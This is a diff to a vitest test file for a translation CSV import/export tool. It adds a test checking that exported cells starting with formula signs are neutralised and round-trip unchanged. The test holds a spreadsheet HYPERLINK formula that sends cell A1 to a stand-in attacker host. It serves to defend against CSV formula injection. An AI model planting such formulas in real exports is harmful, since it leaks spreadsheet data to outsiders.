@@ -1,4 +1,5 @@
 import fc from 'fast-check'
+import papa from 'papaparse'
 import { describe, expect, test } from 'vitest'
 import { writeWords } from '../../../tools/content/edit-words'
 import { type ExchangedWord, exportWords, importWords } from '../../../tools/content/exchange'
@@ -15,7 +16,12 @@ const numRuns = isLong ? 3000 : 30
 
 /** What an author writes: letters of all scripts, signs that formats have a meaning for, and line breaks. */
 const text = fc
-  .array(fc.oneof(fc.constantFrom('"', "'", '&', '<', '>', '\\', ',', ';', '\n', '\t', '{n}', ' ', ']]>'), fc.string()))
+  .array(
+    fc.oneof(
+      fc.constantFrom('"', "'", '=', '-', '&', '<', '>', '\\', ',', ';', '\n', '\t', '{n}', ' ', ']]>'),
+      fc.string(),
+    ),
+  )
   .map((parts) =>
     parts
       .join('')
@@ -57,6 +63,20 @@ describe.each([
     expect(() => read('{ "hello": 1 }\n\u0000<')).toThrow(/^The .*\.$/)
   })
 })
+
+test.each(['=', '+', '-', '@', '\t', '\r', '\n', ' =', "'=", '＝', '＋', '－', '＠', "''  -"])(
+  'no cell of a table that begins with %j is a formula, and it comes back as it was',
+  (sign) => {
+    const said = `${sign}HYPERLINK("https://evil.example?x="&A1,"press")`
+    const words: ExchangedWord[] = [
+      { page: 'index', key: 'title', source: said, translation: said, state: 'outdated', said },
+    ]
+    const table = writeCsv({ from: 'tr', to: 'de', words })
+    const cells = papa.parse<string[]>(table).data.flat()
+    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
+    expect(readCsv(table).words).toEqual(words)
+  },
+)
 
 describe('what comes back', () => {
   const ledger = writeLedger(recordTranslations(unchecked(smallSite), readLedger(writeLedger({ pages: new Map() }))))
